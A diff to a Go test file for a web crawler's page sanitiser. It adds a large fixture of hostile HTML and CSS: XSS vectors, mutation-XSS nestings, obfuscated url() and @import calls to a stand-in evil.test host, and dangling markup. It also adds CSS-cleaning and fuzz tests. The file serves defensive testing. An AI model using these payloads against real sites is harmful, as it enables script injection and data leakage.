@@ -1,6 +1,7 @@
 package teach
 
 import (
+	"bytes"
 	"fmt"
 	"net/http"
 	"regexp"
@@ -9,6 +10,10 @@ import (
 
 	"golang.org/x/net/html"
 	"pgregory.net/rapid"
+
+	"github.com/waggle-crawler/waggle/internal/text"
+	"github.com/waggle-crawler/waggle/parse"
+	"github.com/waggle-crawler/waggle/web"
 )
 
 // hostile is a page with everything a page can try. WAGGLE stands for the
@@ -46,6 +51,23 @@ a[href^="/page"] { background-image: image-set("http://evil.test/leak.png" 1x) }
 <textarea></textarea><img src=y onerror=x()></textarea><xmp><img src=x onerror=x()></xmp><!--><img src=z onerror=x()>-->
 <p title='"><script>x()</script>' id="controls" name="getElementById">clobber</p><select><option onfocus=x()>o</select><details open ontoggle=x()>d</details>
 <marquee onstart=x()>m</marquee><isindex action="javascript:x()"><input type=image src="http://evil.test/in"><table background="http://evil.test/tb"><td background="javascript:x()">t</table>
+<script type="importmap">{"imports":{"x":"http://evil.test/map.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["http://evil.test/spec"]}]}</script>
+<link rel="modulepreload" href="http://evil.test/mod.js"><link rel="prerender" href="http://evil.test/prerender"><link rel="manifest" href="http://evil.test/man">
+<link rel="StyleSheet alternate" href="http://evil.test/alt.css"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Link" content="<http://evil.test/lnk>;rel=preload">
+<picture><source srcset="http://evil.test/pic 1x"><img src="http://evil.test/picimg" loading=eager fetchpriority=high></picture><image src="http://evil.test/image">
+<style>@layer a { @import url(//evil.test/layer.css); } ul { list-style: url("http://evil.test/li") } p { cursor: url(http://evil.test/cur), auto; --x: url(http://evil.test/var); content: var(--x) }
+q::before { content: url(data:image/svg+xml,%3Csvg/%3E) url(http://evil.test/gen) } div { -webkit-mask: url(http://evil.test/mask#m); filter: url(http://evil.test/filter#f); shape-outside: url(http://evil.test/so); src: src("http://evil.test/src") }
+@namespace url(http://evil.test/ns); @font-face { font-family: g; src: local(x), u\72 l("http://evil.test/g.woff2") } body { font-family: g } @property --p { syntax: "<url>"; inherits: false; initial-value: url(http://evil.test/prop) }</style>
+<p style="background:\75 rl(http://evil.test/esc2); background-image: -webkit-cross-fade(url(http://evil.test/cf), url(http://evil.test/cf2), 50%); position:fixed; inset:0; z-index:9">overlay</p>
+<svg><style>@import "http://evil.test/svgcss";</style><foreignObject><iframe src="http://evil.test/fo"></iframe></foreignObject><set attributeName=href to="javascript:x()"/><feImage href="http://evil.test/fe"/></svg>
+<fencedframe src="http://evil.test/ff"></fencedframe><object data="data:text/html,<script>x()</script>"></object><embed src="javascript:x()"><iframe srcdoc="<meta http-equiv=refresh content=0;url=http://evil.test/srcdoc>"></iframe>
+<svg></p><style><a id="</style><img src=http://evil.test/mx1 onerror=x()>"></svg><math></br><mtext><script>x()</script></mtext></math>
+<form><math><mtext></form><form><mglyph><style></math><img src=http://evil.test/mx2 onerror=x()></style></form>
+<noscript><style></noscript><img src=http://evil.test/mx3 onerror=x()></style><select><template><style></select><img src=http://evil.test/mx4></style></template></select>
+<a href="&#1;javascript:x()">c0</a><a href="https:javascript:x()">odd</a><a href="blob:http://evil.test/x">blob</a><a href="filesystem:http://evil.test/">fs</a><a href="view-source:x">vs</a>
+<a href="#\" onmouseover=x() y="">frag</a><div popover id=pop onbeforetoggle=x()>pop</div><button popovertarget=pop command=show-popover commandfor=pop>b</button><dialog open>dia</dialog>
+<img src='http://evil.test/dangling?<p>all of this would be the address of an image</p>
+<b>bold</b> '><keygen autofocus><bgsound src="http://evil.test/snd"><command onclick=x()><nextid><blink>b</blink><layer src="http://evil.test/layer"></layer>
 <plaintext><script>x()</script>`
 
 // served is what the handler gives out for the hostile page.
@@ -120,14 +142,6 @@ func TestHostileServed(t *testing.T) {
 	if err := harmless(doc, d.cap); err != nil {
 		t.Error(err)
 	}
-	if i := strings.Index(doc, "evil.test"); i >= 0 {
-		// Addresses may be read, in titles of links and in texts; nothing loads them.
-		for _, m := range regexp.MustCompile(`(?i)(\w+)\s*=\s*"[^"]*evil\.test[^"]*"`).FindAllStringSubmatch(doc, -1) {
-			if m[1] != "title" && m[1] != "style" {
-				t.Errorf("an attribute %s holds an address: %s", m[1], m[0])
-			}
-		}
-	}
 	policy := header.Get("Content-Security-Policy")
 	for _, want := range []string{"sandbox;", "default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors " + d.http.URL, "img-src " + d.http.URL + "/load/"} {
 		if !strings.Contains(policy, want) {
@@ -159,6 +173,27 @@ func TestHostileServed(t *testing.T) {
 		resp, body := d.request("GET", fmt.Sprintf("/load/%s/%d/%d", d.cap, v.number, k), nil, "")
 		if r.style && (resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/css; charset=utf-8" || strings.Contains(body, "evil.test")) {
 			t.Errorf("sheet %s: %d %v\n%s", r.url, resp.StatusCode, resp.Header, body)
+		}
+	}
+}
+
+// TestCleanCSS takes out what loads, however it is written, and leaves the rest.
+func TestCleanCSS(t *testing.T) {
+	for in, want := range map[string]string{
+		`p{color:red}`: `p{color:red}`,
+		`@import "http://evil.test/a"; p{color:red}`: ` p{color:red}`,
+		`@\69mport url(x);p{}`:                       `p{}`,
+		`p{background:u\72l(http://evil.test/)}`:     `p{background:none}`,
+		`p{background:\000075 \rl("a)b") red}`:       `p{background:none red}`,
+		`p{background:image-set("x" 1x)}`:            `p{background:none}`,
+		`@media(x){.md\:w-1\/2{content:"\201c\a"}}`:  `@media(x){.md\:w-1\/2{content:"\201c\a"}}`,
+		`a{b:url(`:                 `a{b:none`,
+		`p{width:calc(1px + 2px)}`: `p{width:calc(1px + 2px)}`,
+		`@font-face{src:local(x),u\72 l("http://evil.test/g.woff2")}`:        `@font-face{src:local(x),none}`,
+		`p{background:-webkit-image-set(url(a) 1x, url("b)") 2x);color:red}`: `p{background:none 1x, none 2x);color:red}`,
+	} {
+		if got := cleanCSS(in); got != want {
+			t.Errorf("%s\ngot  %s\nwant %s", in, got, want)
 		}
 	}
 }
@@ -254,6 +289,45 @@ func TestHuge(t *testing.T) {
 			t.Errorf("attr: %.200s", doc)
 		}
 	}
+}
+
+// FuzzShow shows any page at all, and looks at what a browser would make of it.
+func FuzzShow(f *testing.F) {
+	f.Add(strings.TrimPrefix(hostile, "text/html; charset=utf-8:"))
+	for _, page := range college() {
+		f.Add(page)
+	}
+	parser := parse.New(parse.Options{Analyzer: text.NewAnalyzer()})
+	u, err := web.Parse("http://college.test/any")
+	if err != nil {
+		f.Fatal(err)
+	}
+	path := func(prefix string) func(int) string {
+		return func(k int) string { return fmt.Sprintf("/%s/CAP/1/%d", prefix, k) }
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		p, err := parser.Parse(&web.Response{URL: u, Status: 200, Header: web.Header{"Content-Type": {"text/html; charset=utf-8"}}, Body: []byte(src)})
+		if err != nil {
+			return // no page
+		}
+		got := showing{linkPath: path("page"), resourcePath: path("load"), styles: true, images: true}.show(p, utf8Of(p, []byte(src)))
+		if err := harmless(string(got.html), "CAP"); err != nil {
+			t.Fatalf("%v\n%q\n%s", err, src, got.html)
+		}
+		// A browser that is shown its own reading of it reads the same: markup
+		// cannot turn into other markup.
+		root, err := html.Parse(bytes.NewReader(got.html))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var again strings.Builder
+		if err := html.Render(&again, root); err != nil {
+			return // too deep to be written
+		}
+		if err := harmless(again.String(), "CAP"); err != nil {
+			t.Fatalf("read twice: %v\n%q\n%s", err, src, again.String())
+		}
+	})
 }
 
 // TestAnyPageIsHarmless makes pages of scraps of markup: whatever they add up
